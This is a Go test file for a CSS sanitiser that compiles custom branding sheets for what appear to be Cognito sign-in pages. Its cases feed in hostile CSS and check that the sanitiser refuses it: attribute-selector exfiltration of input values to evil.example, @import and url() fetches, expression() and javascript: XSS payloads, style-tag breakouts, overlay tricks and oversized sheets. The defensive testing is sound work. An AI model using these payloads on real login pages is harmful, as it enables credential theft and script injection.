package branding

import (
	"strings"
	"testing"
)

// refusedCSS gives the faults of a sheet that must be refused, and complains of one that is not.
func refusedCSS(t *testing.T, sheet, because string) {
	t.Helper()
	brand, report := CompileClassic(sheet, nil, "/brand/")
	if brand != nil || len(report.Faults) == 0 {
		t.Fatalf("%.120s is taken:\n%v", sheet, brand)
	}
	if got := report.Faults[0]; got.Path != "CSS" || !strings.Contains(got.Message, because) {
		t.Errorf("%.120s: %s, want %q", sheet, got, because)
	}
}

// A rule that asks for an address when a value begins with some letter tells the value away, letter by letter.
func TestAttackExfiltrationByAttributeSelectors(t *testing.T) {
	for _, sheet := range []string{
		`input[value^="a"] { background: url(https://evil.example/a) }`,
		`.inputField-customizable[value^="a"] { color: #111 }`,
		`.inputField-customizable[type=password] { color: #111 }`,
		`.label-customizable ~ input { color: #111 }`,
		`.label-customizable input { color: #111 }`,
		`.label-customizable > .inputField-customizable { color: #111 }`,
		`.inputField-customizable:has([value^=a]) { color: #111 }`,
		`.inputField-customizable:valid { color: #111 }`,
		`.inputField-customizable::before { color: #111 }`,
		`.inputField-customizable:not(.x) { color: #111 }`,
		`* { color: #111 }`, `:root { color: #111 }`, `body { color: #111 }`, `#signInFormPassword { color: #111 }`,
		`.label-customizable, [value] { color: #111 }`, `.LABEL-CUSTOMIZABLE { color: #111 }`, `.\6c abel-customizable { color: #111 }`,
	} {
		refusedCSS(t, sheet, "the selector is not one of Cognito's classes")
	}
}

func TestAttackImport(t *testing.T) {
	for _, sheet := range []string{
		`@import "https://evil.example/x.css";`, `@import url(//evil.example);`, `@IMPORT 'x';`, `.label-customizable { color: #111 } @import "x";`,
		`@media screen { .label-customizable { color: #111 } }`, `@supports (color: red) { }`, `@page { margin: 0 }`, `@font-face { font-family: x; src: url(x) }`,
		`@charset "utf-7";`, `@namespace url(x);`, `@layer brand { }`, `@keyframes a { from { color: red } }`, `@property --ink { syntax: "*"; inherits: true }`,
	} {
		refusedCSS(t, sheet, "is not allowed")
	}
	refusedCSS(t, `.label-customizable { @import "x"; color: #111 }`, "is no property")
}

func TestAttackURL(t *testing.T) {
	for _, value := range []string{
		`url(https://evil.example/x)`, `url("//evil.example")`, `URL(x)`, `url( data:image/svg+xml,%3Csvg%3E )`, `#fff url(x)`, `u\72l(x)`,
		`image-set("x" 1x)`, `image("x")`, `src("x")`, `-webkit-image-set(url(x) 1x)`, `linear-gradient(red, url(x))`, `cross-fade(url(a), url(b), 50%)`,
		`var(--x, url(x))`, `attr(value url)`, `url(`, `url("unfinished`, `element(#password)`, `paint(x)`, `env(x)`,
	} {
		for _, property := range []string{"background", "background-color", "color", "border"} {
			refusedCSS(t, `.submitButton-customizable { `+property+`: `+value+` }`, "line 1")
		}
	}
	for _, property := range []string{"background-image", "list-style", "cursor", "content", "filter", "mask", "border-image", "src", "-moz-binding", "behavior", "--x"} {
		refusedCSS(t, `.submitButton-customizable { `+property+`: none }`, "line 1")
	}
}

func TestAttackExpression(t *testing.T) {
	for _, value := range []string{
		`expression(alert(1))`, `EXPRESSION(alert(1))`, `ex/**/pression(alert(1))`, `\65xpression(alert(1))`, `"javascript:alert(1)"`, `javascript:alert(1)`,
		`calc(1px + 1px)`, `</style><script>alert(1)</script>`, `red; } body { color: red`, `{}`, `[]`, `(red)`, `red !ie`, `<!-- -->`,
	} {
		if brand, report := CompileClassic(`.label-customizable { color: `+value+` }`, nil, "/brand/"); len(report.Faults) == 0 {
			t.Errorf("%s is taken: %s", value, brand.CSS)
		}
	}
}

// Nothing can be laid over the page, moved out of it or made to vanish.
func TestAttackPositionOverlay(t *testing.T) {
	for _, declaration := range []string{
		"position: fixed", "position: absolute", "inset: 0", "top: 0", "z-index: 9999", "transform: scale(9)", "opacity: 0", "visibility: hidden",
		"display: none", "display: flex", "display: contents", "float: left", "clip-path: inset(50%)", "overflow: hidden", "pointer-events: none",
		"margin: -900px 0 0 0", "margin-top: -1px", "padding: 99999px", "height: 100vh", "height: 0", "width: 0%", "width: 5%", "width: 100vw",
		"font-size: 0", "font-size: 1px", "font-size: 500px", "max-width: 0", "text-indent: -9999px", "line-height: 0", "border: 5000px solid red",
		"border-width: 101px", "direction: rtl", "unicode-bidi: bidi-override", "font-family: Evil", "animation: x 1s", "transition: all 1s", "all: unset", "zoom: 9",
	} {
		refusedCSS(t, `.banner-customizable { `+declaration+` }`, "line 1")
	}
	refusedCSS(t, ".label-customizable { color: #111 !important }", "!important")
}

// The ring around what has the focus stays, whatever the template of Cognito's says.
func TestAttackOutlineDropped(t *testing.T) {
	for _, declaration := range []string{"outline: 0", "outline: none", "outline-width: 0", "outline-color: transparent", "OUTLINE: 0"} {
		brand, report := CompileClassic(`.inputField-customizable:focus { `+declaration+`; border-color: #0000ff }`, nil, "/brand/")
		if len(report.Faults) > 0 {
			t.Fatal(report.Faults)
		}
		if strings.Contains(strings.ToLower(brand.CSS), "outline") {
			t.Errorf("%s is written: %s", declaration, brand.CSS)
		}
		if len(report.Warnings) == 0 || !strings.Contains(report.Warnings[0].Message, "outline is dropped") {
			t.Errorf("%s: nobody is told: %v", declaration, report.Warnings)
		}
		if !strings.Contains(brand.CSS, "border-color:#0000ff") {
			t.Errorf("what stands beside it is lost: %s", brand.CSS)
		}
	}
}

func TestAttackHugeStyleSheet(t *testing.T) {
	refusedCSS(t, strings.Repeat(" ", MaxCSS+1), "131072 are the limit")
	refusedCSS(t, strings.Repeat(".label-customizable{}", 5000), "more than 200 rules")
	refusedCSS(t, ".label-customizable,.banner-customizable{"+strings.Repeat("color:red;", 1500)+"}", "2000 properties")
	refusedCSS(t, strings.Repeat("{", 100_000), "line 1")
	refusedCSS(t, ".label-customizable{"+strings.Repeat("(", 100_000)+"}", "line 1")
	refusedCSS(t, strings.Repeat("a ", 65_000), "too long")
	refusedCSS(t, ".label-customizable{color:red", "no end")
	refusedCSS(t, "\xff\xfe", "UTF-8")
	refusedCSS(t, ".label-customizable{\x00color:red}", "UTF-8")
	_, report := CompileClassic(strings.Repeat("@x;\n", 30_000), nil, "/brand/")
	if len(report.Faults) > maxFaults {
		t.Errorf("%d faults", len(report.Faults))
	}
}
